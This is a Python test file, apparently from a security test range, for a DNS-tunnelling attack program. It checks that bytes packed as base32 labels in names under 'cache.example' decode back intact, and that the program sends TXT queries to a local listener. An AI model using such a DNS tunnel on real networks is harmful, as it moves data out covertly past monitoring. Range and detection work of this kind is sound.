"""The tunnel's names carry bytes that can be had back, within the limits of DNS."""

import base64

from tests.wardline_range.real.programs.launch import IP
from tests.wardline_range.real.programs.listeners import answering
from wardline_range.real.programs import attack_dns_tunnel


def test_what_a_name_carries_can_be_had_back() -> None:
    carried = bytes(range(105))
    name = attack_dns_tunnel.name(3, carried, "cache.example")
    number, *labels, second, top = name.split(".")
    assert (number, second, top) == ("0003", "cache", "example")
    assert max(map(len, labels)) <= 63
    assert len(name) <= 253
    text = "".join(labels).upper()
    assert base64.b32decode(text + "=" * (-len(text) % 8)) == carried


def test_text_is_asked_for() -> None:
    with answering(lambda said: said) as server:
        attack_dns_tunnel.main(["--server", IP, "--port", str(server.port), "--seconds", "0.18", "--every", "0.05"])
    assert len(server.datagrams) >= 3
    assert all(said.endswith(b"\x07example\0\0\x10\0\x01") for said in server.datagrams)
